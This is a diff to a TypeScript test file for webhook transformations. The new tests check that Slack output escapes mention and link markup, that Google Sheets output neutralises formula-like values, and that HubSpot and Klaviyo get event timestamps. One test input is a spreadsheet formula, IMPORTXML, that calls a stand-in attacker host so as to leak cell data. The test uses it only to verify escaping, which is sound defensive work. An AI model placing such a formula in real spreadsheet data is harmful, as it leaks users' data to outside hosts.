@@ -78,19 +78,42 @@ describe.for(gallery.map((entry) => [entry.key, entry] as const))('the expressio
   });
 });
 
-test('the expression for Slack escapes markup, so that names cannot mention users or disguise links', async () => {
-  const [slack] = gallery;
-  const payload = { body: { pub_user_id: '<!channel>', campaigns: [{ title: 'A & <http://x|B>' }] } };
-  const input = {
-    transformation: slack?.transformation ?? {},
-    deliveryId: '0197a000-0000-7000-8000-000000000001',
-    event: 'usp.selection',
+/** Applies the expression for a service to a payload. The delivery was created on 1 January 2026 at midnight UTC. */
+async function applied(key: string, event: string, payload: object): Promise<unknown> {
+  const outcome = await t.deps.transformer.apply({
+    transformation: gallery.find((entry) => entry.key === key)?.transformation ?? {},
+    deliveryId: '019b76da-a800-7000-8000-000000000001',
+    event,
     dev: false,
     payload: Buffer.from(JSON.stringify(payload)),
     publisherId: 1,
-  };
-  const outcome = await t.deps.transformer.apply(input);
-  expect('parts' in outcome && JSON.parse(String(outcome.parts.body))).toEqual({
+  });
+  return 'parts' in outcome ? JSON.parse(String(outcome.parts.body)) : outcome;
+}
+
+const selection = (userId: string, title: string) => ({ body: { pub_user_id: userId, campaigns: [{ title }] } });
+
+test('the expression for Slack escapes markup, so that names cannot mention users or disguise links', async () => {
+  expect(await applied('Slack', 'usp.selection', selection('<!channel>', 'A & <http://x|B>'))).toEqual({
     text: '*usp.selection*\nUser &lt;!channel&gt; selected A &amp; &lt;http://x|B&gt;',
+  });
+});
+
+test('the expression for Google Sheets writes texts that look like formulas as texts', async () => {
+  const formula = '=IMPORTXML("https://evil.example/"&A1)';
+  expect(await applied('Google_Sheets', 'usp.selection', selection(formula, '+1 month'))).toMatchObject({
+    values: [['2026-01-01T00:00:00.000Z', 'usp.selection', `'${formula}`, "'+1 month", '', '', expect.anything()]],
+  });
+  expect(await applied('Google_Sheets', 'offer_saved', { pub_user_id: '-7', headline: 'A = B' })).toMatchObject({
+    values: [[expect.anything(), 'offer_saved', "'-7", 'A = B', '', '', expect.anything()]],
+  });
+});
+
+test('a selection that is sent again days later has the time at which it happened', async () => {
+  expect(await applied('HubSpot', 'usp.selection', selection('user-1', 'A'))).toMatchObject({
+    inputs: [{ properties: { last_perk_at: '2026-01-01T00:00:00.000Z' } }],
+  });
+  expect(await applied('Klaviyo', 'usp.selection', selection('user-1', 'A'))).toMatchObject({
+    data: { attributes: { time: '2026-01-01T00:00:00.000Z' } },
   });
 });
